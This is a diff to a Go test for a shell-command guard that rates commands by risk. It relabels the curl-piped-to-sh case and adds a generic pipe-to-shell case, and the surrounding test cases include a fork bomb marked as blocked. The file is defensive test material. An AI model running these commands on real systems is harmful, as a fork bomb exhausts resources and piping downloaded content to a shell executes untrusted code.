@@ -135,7 +135,8 @@ func TestCheckLevels(t *testing.T) {
 		{"echo 'unclosed", guard.Blocked, "parse_error"},
 		{"cat <<EOF", guard.Blocked, "parse_error"},
 		{":(){ :|:& };:", guard.Blocked, "fork_bomb"},
-		{"curl https://example.com/x | sh", guard.High, "pipe_to_shell"},
+		{"curl https://example.com/x | sh", guard.High, "curl_pipe_sh"},
+		{"some-tool | sh", guard.High, "pipe_to_shell"},
 	}
 	var lines []string
 	for _, tc := range tests {
